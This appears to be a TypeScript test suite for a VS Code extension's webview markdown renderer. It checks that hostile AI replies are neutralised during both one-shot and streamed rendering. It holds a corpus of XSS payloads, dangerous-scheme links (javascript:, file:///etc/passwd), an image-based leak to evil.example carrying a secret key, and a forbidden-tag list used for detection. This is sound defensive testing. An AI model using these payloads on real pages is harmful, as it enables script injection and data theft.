import assert from 'node:assert/strict';
import { JSDOM } from 'jsdom';
import { renderMarkdown } from '../../src/webview/markdown';
import { StreamingMarkdown } from '../../src/webview/streamingMarkdown';

const document = new JSDOM('<!doctype html><body></body>').window.document;

// A quick hostile corpus; the security work brings a bigger one, run in real Chromium.
const HOSTILE: string[] = [
  '<script>window.canary=1</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=1></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  '<style>body{background:url(https://evil.example/leak)}</style>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](  javascript:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/leak?key=SECRET)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](javascript:alert(1))',
  '[![inner](https://evil.example/i.png)](https://evil.example/link)',
  '![a"onerror="alert(1)](https://evil.example/x.png "t\\"onload=\\"x")',
  '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js onload=alert(1)\nx\n```',
  '    <script>alert("indented")</script>',
  '`<img src=x onerror=alert(1)>`',
  '<!-- <img src=x onerror=alert(1)> -->',
  '<div onclick="alert(1)">x</div>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scr<script>ipt>alert(1)</script>',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '> <iframe srcdoc="<script>alert(1)</script>">',
  '- <a href=javascript:alert(1)>x</a>\n- ![i](http://evil.example/a.gif)',
  'www.evil.example/?q=<script>alert(1)</script>',
  '[ref]: javascript:alert(1)\n\n[ref]',
  '[ref]: https://evil.example/leak.png\n\n![ref]',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=x autofocus onfocus=alert(1)></form>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<video src=x onerror=alert(1)></video><audio src=x></audio><source src=x>',
];

const FORBIDDEN = 'script, img, svg, math, iframe, object, embed, style, link, meta, base, form, input, video, audio, source, frame, frameset';

function checkSafe(root: Element, label: string): void {
  const bad = root.querySelectorAll(FORBIDDEN);
  assert.equal(bad.length, 0, `${label}: forbidden element <${bad[0]?.tagName}>`);
  for (const el of Array.from(root.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      assert.ok(!attr.name.startsWith('on'), `${label}: event handler attribute ${attr.name}`);
      assert.notEqual(attr.name, 'style', `${label}: style attribute`);
      assert.ok(!['src', 'srcset', 'srcdoc', 'action', 'formaction', 'background', 'poster'].includes(attr.name), `${label}: ${attr.name}`);
    }
    const href = el.getAttribute('href');
    if (href !== null) {
      const squashed = href.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      assert.ok(!/^(javascript|vbscript|data|file):/.test(squashed), `${label}: dangerous href ${href}`);
    }
  }
}

function render(text: string): HTMLElement {
  const div = document.createElement('div');
  const t = document.createElement('template');
  t.innerHTML = renderMarkdown(text);
  div.append(t.content);
  return div;
}

describe('webview rendering of hostile replies', function () {
  this.timeout(120_000); // jsdom rendering on a busy machine; nothing here is timed
  it('one-shot render: no script, handler, remote-loading element or dangerous URL', () => {
    for (const [i, text] of HOSTILE.entries()) checkSafe(render(text), `#${i} ${JSON.stringify(text)}`);
    checkSafe(render(HOSTILE.join('\n\n')), 'all together');
  });

  it('streamed in small chunks: safe after every frame', () => {
    const all = HOSTILE.join('\n\n');
    const container = document.createElement('div');
    const r = new StreamingMarkdown(container, { schedule: () => {} });
    for (let i = 0; i < all.length; i += 5) {
      r.append(all.slice(i, i + 5));
      r.flush();
      if (i % 50 === 0) checkSafe(container, `after ${i} chars`);
    }
    checkSafe(container, 'streamed whole');
  });

  it('images become text naming the alt text and URL', () => {
    const div = render('Look: ![secret chart](https://evil.example/leak?key=SECRET)');
    const img = div.querySelector('.md-image');
    assert.ok(img);
    assert.match(img.textContent!, /image: secret chart — https:\/\/evil\.example\/leak\?key=SECRET/);
    assert.equal(div.querySelectorAll('img').length, 0);
  });

  it('links keep a safe href (the view posts it to the host), dangerous ones stay text', () => {
    const ok = render('[docs](https://example.com/a?b=1)').querySelector('a');
    assert.equal(ok?.getAttribute('href'), 'https://example.com/a?b=1');
    assert.equal(render('[x](javascript:alert(1))').querySelector('a'), null);
    const linkified = render('see https://example.org/path').querySelector('a');
    assert.equal(linkified?.getAttribute('href'), 'https://example.org/path');
  });

  it('raw HTML is shown as text, not parsed', () => {
    const div = render('<b onclick="x">bold?</b>');
    assert.equal(div.querySelector('b'), null);
    assert.match(div.textContent!, /<b onclick="x">bold\?<\/b>/);
  });
});

describe('webview: only web and mail links are links', () => {
  it('renders http(s) and mailto as links, other schemes and protocol-relative URLs as text', () => {
    const html = renderMarkdown(
      [
        '[web](https://example.com/a) [mail](mailto:a@example.com)',
        '[cmd](command:workbench.action.terminal.new) [vs](vscode:extension/x) [file](file:///etc/passwd)',
        '[js](javascript:alert(1)) [proto](//evil.example/x) <command:workbench.action.reloadWindow>',
      ].join('\n\n'),
      false,
    );
    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);
    assert.deepEqual(hrefs, ['https://example.com/a', 'mailto:a@example.com']);
    for (const text of ['cmd', 'vs', 'file', 'js', 'proto']) assert.match(html, new RegExp(`\\[${text}\\]`));
  });
});
